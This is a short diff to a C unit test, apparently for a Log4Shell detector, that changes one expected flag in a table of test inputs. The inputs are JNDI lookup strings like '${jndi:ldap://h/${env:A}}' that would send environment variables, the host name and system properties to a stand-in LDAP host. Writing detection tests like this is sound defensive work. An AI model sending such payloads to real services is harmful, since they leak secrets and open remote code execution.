@@ -169,7 +169,7 @@ static void secrets_are_noticed(void **state)
         {__LINE__, "${jndi:ldap://h/${env:A}}", UNSET, true, true, false, 1, "env:A"},
         {__LINE__, "${jndi:ldap://h/${env:A}}", SET, true, true, false, 1, "env:A"},
         {__LINE__, "${jndi:ldap://h/${upper:${ENV:A}}}", SET, true, true, false, 1, "env:A"},
-        {__LINE__, "${jndi:ldap://h/${hostName}}", UNSET, true, true, false, 0, NULL},
+        {__LINE__, "${jndi:ldap://h/${hostName}}", UNSET, false, true, false, 0, NULL},
         {__LINE__, "${jndi:ldap://h/${java:os}}", UNSET, true, true, false, 0, NULL},
         {__LINE__, "${jndi:ldap://h/${sys:java.version}}", UNSET, true, true, false, 0, NULL},
         {__LINE__, "${jndi:ldap://h/${date:yyyy}${sys:file.separator}}", UNSET, false, false, false, 0, NULL},
